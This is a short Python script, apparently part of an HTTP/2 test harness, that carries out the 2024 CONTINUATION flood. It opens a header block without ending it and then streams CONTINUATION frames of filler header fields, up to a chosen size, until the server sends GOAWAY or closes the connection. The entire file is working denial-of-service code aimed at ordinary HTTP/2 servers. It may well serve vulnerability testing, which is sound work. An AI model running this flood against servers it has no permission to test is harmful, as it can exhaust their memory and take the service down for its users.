"""CONTINUATION flood (2024): a header block that never ends — HEADERS
without END_HEADERS, then CONTINUATION frames of new header fields — up to
`limit` MB, until the server says GOAWAY or closes."""
import time
from h2raw import *

c = Conn(port())
limit = arg(2, 64) << 20
enc = Encoder()
c.send(frame(HEADERS, END_STREAM, 1, request_block(enc, "/")))
sent = 0
i = 0
while sent < limit and c.goaway is None and not c.closed and time.monotonic() - c.start < 20:
    block = b"".join(
        enc.encode([(f"x-flood-{i}-{j}", "v" * 100)], huffman=False) for j in range(100)
    )
    i += 1
    if not c.send(frame(CONTINUATION, 0, 1, block)):
        break
    sent += len(block)
    c.poll()
c.finish()
c.report(sent)
